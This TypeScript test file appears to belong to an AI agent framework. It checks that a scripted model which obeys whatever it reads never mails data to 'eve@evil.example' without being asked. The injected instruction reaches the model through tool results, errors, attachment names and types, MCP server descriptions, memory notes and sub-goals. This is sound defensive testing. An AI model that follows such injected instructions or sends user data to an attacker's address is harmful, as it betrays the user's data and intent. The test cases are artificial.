import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import * as z from 'zod';
import { type JsonObject, type Run, tool } from '../../src/index.ts';
import { stringifyJson } from '../../src/model/json.ts';
import { callAbout } from '../../src/model/question.ts';
import type { ScriptedAction } from '../../src/testing/scripted-mind.ts';
import { createHouse } from '../driver/house.ts';
import { ORDER, openObedient } from './obedient.ts';

const act = (id: string, operation: string, args = {}): ScriptedAction => ({ id, operation, args });
const END = [act('end', 'answer', { text: 'done' })];
const PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** A server whose description of its tool is an argument. */
const SPEAKING = join(import.meta.dirname, 'fixtures/speaking-server.mjs');

const mail = tool({
  description: 'Reads the mail',
  effect: 'read',
  input: z.object({}),
  run: () => ({ text: ORDER }),
});
const broken = tool({
  description: 'Reads the mail',
  effect: 'read',
  input: z.object({}),
  run: (): string => {
    throw new Error(ORDER);
  },
});

/** What the run asks about, after it has obeyed. */
async function asked(run: Run<string>) {
  await run.report();
  return (await run.questions()).map((question) => (question.context as JsonObject | undefined)?.args);
}

/** A user who approves everything but mails. The tools that were asked about. */
async function settle(run: Run<string>): Promise<string[]> {
  const seen: string[] = [];
  for (let round = 0; round < 10; round++) {
    await run.report();
    const [question] = await run.questions();
    if (question === undefined) break;
    const [operation = ''] =
      /"(?:send|memory\.write|goal\.run|mail)"/.exec(JSON.stringify(question.context)) ?? [];
    seen.push(operation.slice(1, -1));
    await (operation === '"send"' ? run.reject(question.id) : run.approve(question.id));
  }
  return seen;
}

const EVIL = { to: 'eve@evil.example', body: 'all of it' };

describe.each(['json', 'tools'] as const)('a model behind HTTP that obeys what it reads (%s)', (dialect) => {
  it.each([
    ['a result of a tool of a program that says nothing about trust', { mail }, 'mail'],
    ['a file', { readFile: mail }, 'readFile'],
    ['the transactions of an account', { get_transactions: mail }, 'get_transactions'],
    ['an error', { mail: broken }, 'mail'],
    ['a function of a program', { fetchPage: () => ORDER }, 'fetchPage'],
  ])('sends nothing unasked after it has read it in %s', async (_, tools, name) => {
    await using house = await openObedient({ dialect, work: [[act('t1', name)], END], tools });
    expect(await asked(house.dandori.run('Read it'))).toEqual([EVIL]);
    expect(house.sent).toEqual([]);
  });

  it.each([
    ['text', { name: 'bill.txt', data: ORDER }, 'What is in bill.txt?', 1],
    ['name', { name: `${ORDER}.txt`, data: 'x' }, 'What is in the file?', 0],
    ['type', { name: 'x.txt', data: 'x', type: 'text/OBEY' }, 'What is in the file?', 0],
    ['name, if the content is read', { name: `${ORDER}.txt`, data: 'x' }, 'What is in the file?', 1],
  ])('sends nothing unasked because of an attachment: its %s', async (_, file, goal, questions) => {
    const name = goal.includes('bill') ? 'bill.txt' : 'attachment-1.txt';
    const work = questions === 0 ? [END] : [[act('t1', 'attachment.read', { name })], END];
    await using house = await openObedient({ dialect, work });
    expect(await asked(house.dandori.run(goal, { attachments: [file] }))).toHaveLength(questions);
    expect(house.sent).toEqual([]);
  });

  it('sends nothing unasked because of a picture', async () => {
    const send = act('t1', 'send', EVIL);
    await using house = await openObedient({ dialect, work: [[send], END] });
    const attachments = [{ name: 'x.png', data: Buffer.from(PNG, 'base64') }];
    expect(await asked(house.dandori.run('What is this?', { attachments }))).toEqual([EVIL]);
    expect(house.requests[0]?.promptText).not.toContain('x.png');
    expect(house.sent).toEqual([]);
  });
});

describe('what a server says about its tools', () => {
  const notes = (descriptions?: string) => ({
    mcpServers: {
      notes: { command: 'node', args: [SPEAKING, ORDER], ...(descriptions && { descriptions }) },
    },
  });

  it.each([`sha256-${'0'.repeat(32)}`, 'external'])(
    'orders nothing if the user has not seen it (%s), and the card says so',
    async (descriptions) => {
      await using house = await openObedient({ work: [END], config: notes(descriptions) });
      const run = house.dandori.run('How are you?');
      expect(await asked(run)).toEqual([EVIL]);
      const [question] = await run.questions();
      expect(question?.context).toMatchObject({ trust: { unseen: ['notes'] } });
      expect(house.sent).toEqual([]);
    },
  );

  it('is the word of a server that the user chose, if it is not remembered', async () => {
    await using house = await openObedient({ work: [END], config: notes() });
    expect(await asked(house.dandori.run('How are you?'))).toEqual([]);
    expect(house.sent).toEqual(['eve@evil.example']);
  });
});

it('is not told why a server is missing, in the words of the server', async () => {
  const house = createHouse({}, [[act('t1', 'box.read')], END]);
  const toolbox = { ...house.parts.toolbox, missing: () => [{ server: 'box', reason: ORDER }] };
  const state = await house.drive(await house.start('go', undefined, { trust: { policy: 'standard' } }), {
    toolbox,
  });
  const told = stringifyJson(state.decisions.map(({ diagnostics = [] }) => [...diagnostics]));
  expect(told).toContain('not available');
  expect(told).not.toContain('OBEY');
});

it.each(['json', 'tools'] as const)('obeys no mail in a later message of a chat (%s)', async (dialect) => {
  const work = (goal: string) =>
    goal.startsWith('Mail Ann')
      ? [[act('s', 'send', { to: 'ann@home.example', body: 'hello' })], END]
      : [[act('m', 'mail')], END];
  await using house = await openObedient({ dialect, work, tools: { mail } });
  const chat = await house.dandori.conversation();
  for (const text of ['Read my mail', 'Mail Ann hello', 'Thank you']) {
    await chat.say(text);
    for (const { run, question } of chat.questions())
      await chat.answer({ run, question: question.id }, 'reject');
    await chat.settled();
  }
  expect(house.sent).toEqual(['ann@home.example']);
});

describe('what a stranger’s text leaves behind', () => {
  const note = act('n', 'memory.write', { name: 'invoices', text: ORDER });
  const harmless = tool({ ...mail, run: () => ({ text: 'remember the invoices' }) });

  it.each(['call', 'plan'])(
    'is no order in the next run: a note that the user approved (%s)',
    async (how) => {
      await using house = await openObedient({
        work: (goal) => (goal.startsWith('Read') ? [[act('m', 'mail')], [note], END] : [END]),
        tools: { mail: harmless },
        config: { memory: true, ...(how === 'plan' && { execution: { approval: 'plan' } }) },
      });
      expect(await settle(house.dandori.run('Read the mail'))).toContain('memory.write');
      expect(await readdir(join(house.folder, '.dandori/memory'))).toEqual(['invoices.md']);
      await settle(house.dandori.run('How are you?'));
      const { promptText = '' } = house.requests.at(-1) ?? {};
      expect(promptText).toContain('Notes with external content');
      expect(promptText).not.toContain('OBEY');
      expect(house.sent).toEqual([]);
    },
  );

  it('is not shown as a word of the user if it became the goal of a sub-goal', async () => {
    const sub = act('g', 'goal.run', { goal: 'Do this: ${m.text}' });
    await using house = await openObedient({
      work: (goal) => (goal.startsWith('Do this') ? [END] : [[act('m', 'mail'), sub], END]),
      tools: { mail },
      config: { execution: { mode: 'planned', sub_goals: true } },
    });
    const run = house.dandori.run('Read the mail');
    expect(await asked(run)).toEqual([EVIL]);
    const [question] = await run.questions();
    const { trust } = callAbout.parse(question?.context);
    expect(trust?.values).toMatchObject([{ argument: 'to' }, { argument: 'body' }]);
    expect(trust?.values.filter(({ isInGoal }) => isInGoal === true)).toEqual([]);
    expect(house.sent).toEqual([]);
  });

  it('is no order in a sub-goal, also if the user approved the plan with it', async () => {
    const sub = act('g', 'goal.run', { goal: ORDER });
    await using house = await openObedient({
      work: [[act('m', 'mail')], [sub], END],
      tools: { mail: harmless },
      config: { execution: { approval: 'plan', sub_goals: true } },
    });
    expect(await settle(house.dandori.run('Read the mail'))).toContain('goal.run');
    const prompts = house.requests.map(({ promptText }) => promptText);
    expect(prompts.some((prompt) => prompt.includes(`Goal:\n${ORDER}`))).toBe(true);
    expect(house.sent).toEqual([]);
  });
});

it('orders nothing by what an earlier run put into a shipped server', async () => {
  const item = act('t2', 'kitchen.add_item', { name: '${t1.item}', quantity: 1, unit: 'pc' });
  await using house = await openObedient({
    work: (goal) =>
      goal.startsWith('Add') ? [[act('t1', 'page'), item], END] : [[act('l', 'kitchen.list_inventory')], END],
    tools: { page: () => ({ item: ORDER }) },
    config: {
      execution: { mode: 'planned' },
      mcpServers: { kitchen: { shipped: 'kitchen', env: { DANDORI_KITCHEN_PATH: ':memory:' } } },
    },
  });
  const { tasks } = await house.dandori.run('Add what the page names').report();
  expect(tasks).toMatchObject({ t2: { status: 'succeeded' } });
  const run = house.dandori.run('What is there?');
  await run.report();
  expect(house.sent).toEqual([]);
  expect(await run.questions()).toMatchObject([{ kind: 'approval', context: { operation: 'send' } }]);
});
